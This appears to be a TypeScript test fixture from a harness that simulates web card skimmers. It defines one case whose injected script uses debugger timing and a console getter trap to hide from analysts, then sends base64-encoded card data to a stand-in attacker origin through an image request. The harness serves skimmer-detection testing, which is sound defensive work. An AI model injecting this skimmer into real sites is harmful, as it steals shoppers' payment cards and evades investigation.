import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'evade-debugger-timing',
  why: 'A debugger statement that takes time means somebody is looking; so does a console that reads what it is given.',
  covers: ['trigger: developer tools', 'hard: hides from analysts', 'disguise: console'],
  base: 'direct',
  install: (site) =>
    site.append(js`(function () {
  var looked = false, bait = new Error();
  Object.defineProperty(bait, 'stack', { get: function () { looked = true; return ''; } });
  var before = performance.now();
  debugger;
  if (performance.now() - before > 100) return;
  console.debug(bait);
  console.clear();
  setTimeout(function () {
    if (looked) return;
    ${onPay(js`new Image().src = '${site.origins.evil}/t.gif?d=' + encodeURIComponent(btoa(card()));`)}
  }, 50);
})();`),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
